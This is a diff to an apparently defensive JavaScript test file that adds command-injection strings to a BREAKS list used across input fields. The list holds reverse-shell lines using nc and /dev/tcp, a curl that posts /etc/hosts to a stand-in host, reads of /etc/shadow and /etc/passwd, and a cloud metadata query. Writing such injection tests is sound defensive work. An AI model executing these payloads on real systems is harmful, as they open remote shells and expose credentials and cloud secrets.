@@ -34,6 +34,13 @@ const BREAKS = [
   '| nc 10.0.0.1 4444 -e /bin/sh',
   'bash -i >& /dev/tcp/10.0.0.1/80 0>&1',
   "cat x' ; id",
+  'true && cat /etc/hosts | curl -d @- http://e.example',
+  'id; whoami',
+  'start; cat /etc/shadow',
+  'cat -n /etc/passwd && ls -la',
+  'ls -la; nc -e /bin/sh e.example 4444',
+  'ls -la | nc e.example 4444',
+  'curl -s http://169.254.169.254/latest/meta-data/ | tee -a x',
 ]
 
 describe.each(FIELDS)('%s', (name) => {
